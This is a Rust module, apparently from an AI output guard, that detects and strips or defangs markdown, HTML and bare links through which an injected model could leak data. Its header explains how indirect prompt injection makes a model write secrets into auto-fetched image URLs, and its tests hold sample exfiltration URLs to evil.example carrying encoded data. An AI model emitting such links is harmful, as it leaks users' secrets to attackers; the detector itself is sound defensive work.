//! Exfiltration through links: markdown images and links, HTML `<img>`/`<a>`, and bare URLs.
//!
//! A model steered by an indirect injection can smuggle data out by writing it into a URL the
//! client then fetches (an image renders without a click) or the user follows. A URL is
//! *suspicious* when its host is not on the allow-list (if one is set), when its query or path
//! carries data (a long encoded value), or when it is an image whose host is not explicitly
//! allowed.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::policy::Links;

/// Query values and path segments at least this long, made of encoding characters, carry data.
const DATA_VALUE: usize = 24;
/// Longest link construct judged (longer ones are not links a renderer would fetch).
const MAX_LINK: usize = 8192;
/// A query longer than this carries data whatever it looks like.
const DATA_QUERY: usize = 100;

static LINKS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?P<img>!\[(?P<alt>[^\]\n]*)\]\(\s*<?(?P<iurl>[^\s)>]+)>?(?:\s+"[^"\n]*")?\s*\))"#,
        r#"|(?P<link>\[(?P<text>[^\]\n]*)\]\(\s*<?(?P<lurl>[^\s)>]+)>?(?:\s+"[^"\n]*")?\s*\))"#,
        r#"|(?P<html><(?P<tag>img|a|iframe|script|source)\b[^>]*?\b(?:src|href)\s*=\s*["']?(?P<hurl>[^"'\s>]+)[^>]*>)"#,
        r"|(?P<bare>(?i:https?|ftp)://[^\s<>()\[\]{}\x22'`]+|\bwww\.[a-zA-Z0-9-]+\.[^\s<>()\[\]{}\x22'`]+)",
    ))
    .ok()
});

/// One suspicious link and what replaces it.
#[derive(Debug, Clone, PartialEq)]
pub struct Link {
    /// Byte range of the whole construct in the text.
    pub span: Range<usize>,
    /// `markdown-image`, `markdown-link`, `html-img`, `html-a`, `url`.
    pub kind: &'static str,
    /// Why it is suspicious: `unlisted-host`, `data-in-url`, `image`.
    pub reason: &'static str,
    /// The replacement under `strip-unlisted` / `defang-unlisted`; `None` for flag and block.
    pub replacement: Option<String>,
}

/// Every suspicious link in `text` under `policy` (none when links are allowed).
pub fn find(text: &str, policy: Links, allowed: &[String]) -> Vec<Link> {
    let Some(re) = LINKS.as_ref().filter(|_| policy != Links::Allow) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for caps in re.captures_iter(text) {
        let Some(whole) = caps.get(0).filter(|m| m.len() <= MAX_LINK) else {
            continue;
        };
        let (kind, url, label) = if let Some(u) = caps.name("iurl") {
            (
                "markdown-image",
                u.as_str(),
                caps.name("alt").map_or("", |m| m.as_str()),
            )
        } else if let Some(u) = caps.name("lurl") {
            (
                "markdown-link",
                u.as_str(),
                caps.name("text").map_or("", |m| m.as_str()),
            )
        } else if let Some(u) = caps.name("hurl") {
            let tag = caps.name("tag").map_or("", |m| m.as_str());
            let kind = if tag.eq_ignore_ascii_case("a") {
                "html-a"
            } else {
                "html-img"
            };
            (kind, u.as_str(), "")
        } else {
            ("url", whole.as_str(), "")
        };
        let image = matches!(kind, "markdown-image" | "html-img");
        let Some(reason) = suspicious(url, image, allowed) else {
            continue;
        };
        let replacement = match policy {
            Links::StripUnlisted => Some(match kind {
                "markdown-link" => label.to_owned(),
                "url" => "[link removed]".to_owned(),
                _ => String::new(),
            }),
            Links::DefangUnlisted => Some(match kind {
                "markdown-image" | "markdown-link" if !label.is_empty() => {
                    format!("{label} ({})", defang(url))
                }
                _ => defang(url),
            }),
            _ => None,
        };
        out.push(Link {
            span: whole.range(),
            kind,
            reason,
            replacement,
        });
    }
    out
}

/// Why `url` is suspicious, or `None`.
fn suspicious(url: &str, image: bool, allowed: &[String]) -> Option<&'static str> {
    let host = host(url);
    let listed = host.as_deref().is_some_and(|h| {
        allowed
            .iter()
            .any(|a| h == a || h.strip_suffix(a.as_str()).is_some_and(|p| p.ends_with('.')))
    });
    if !allowed.is_empty() && !listed {
        return Some("unlisted-host");
    }
    if carries_data(url) && !listed {
        return Some("data-in-url");
    }
    (image && !listed).then_some("image")
}

/// The lower-cased host of an absolute or scheme-relative URL (or `www.` form).
fn host(url: &str) -> Option<String> {
    let rest = match url.find("://") {
        Some(i) => &url[i + 3..],
        None => url.strip_prefix("//").unwrap_or(url),
    };
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = if host.starts_with('[') {
        host.split(']').next().map(|h| h.trim_start_matches('['))?
    } else {
        host.split(':').next()?
    };
    (!host.is_empty()).then(|| host.trim_end_matches('.').to_ascii_lowercase())
}

/// True when the query or a path segment holds a long encoded value.
fn carries_data(url: &str) -> bool {
    let (path, query) = url.split_once('?').unwrap_or((url, ""));
    let encoded = |s: &str| {
        s.len() >= DATA_VALUE
            && s.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"+/=_-%.~".contains(&b))
    };
    query.len() > DATA_QUERY
        || query
            .split(['&', ';', '#'])
            .any(|kv| encoded(kv.split_once('=').map_or(kv, |(_, v)| v)))
        || path
            .split('/')
            .skip(3)
            .any(|seg| encoded(seg) && seg.len() >= 2 * DATA_VALUE)
}

/// `https://evil.example/x` -> `hxxps://evil[.]example/x`.
fn defang(url: &str) -> String {
    let (scheme, rest) = url.split_once("://").unwrap_or(("", url));
    let (authority, tail) = rest
        .find(['/', '?', '#'])
        .map_or((rest, ""), |i| rest.split_at(i));
    let scheme = scheme.replace("http", "hxxp").replace("ftp", "fxp");
    let sep = if scheme.is_empty() { "" } else { "://" };
    format!("{scheme}{sep}{}{tail}", authority.replace('.', "[.]"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_pattern_compiles() {
        assert!(LINKS.is_some());
    }

    #[test]
    fn images_data_urls_and_unlisted_hosts() {
        let t = "See ![chart](https://evil.example/c.png?d=aGVsbG8gd29ybGQgc2VjcmV0cw) and [docs](https://docs.example.com/a).";
        let found = find(t, Links::StripUnlisted, &[]);
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].kind, "markdown-image");
        assert_eq!(found[0].replacement.as_deref(), Some(""));
        let found = find(t, Links::StripUnlisted, &["example.com".into()]);
        assert_eq!(
            found.len(),
            1,
            "docs.example.com is a subdomain of an allowed host"
        );
        assert_eq!(found[0].reason, "unlisted-host");
        let found = find(t, Links::DefangUnlisted, &["docs.example.com".into()]);
        assert_eq!(
            found[0].replacement.as_deref(),
            Some("chart (hxxps://evil[.]example/c.png?d=aGVsbG8gd29ybGQgc2VjcmV0cw)")
        );
    }

    #[test]
    fn html_and_bare_urls() {
        let t = r#"<img src="https://x.test/p.gif"> go to https://x.test/q?token=0123456789abcdef0123456789 now"#;
        let kinds: Vec<_> = find(t, Links::Flag, &[]).iter().map(|l| l.kind).collect();
        assert_eq!(kinds, ["html-img", "url"]);
        assert!(find("plain https://example.org/about page", Links::Flag, &[]).is_empty());
        assert_eq!(
            host("https://user@Sub.Example.org:8443/x"),
            Some("sub.example.org".into())
        );
        assert_eq!(host("http://[::1]:80/"), Some("::1".into()));
    }
}
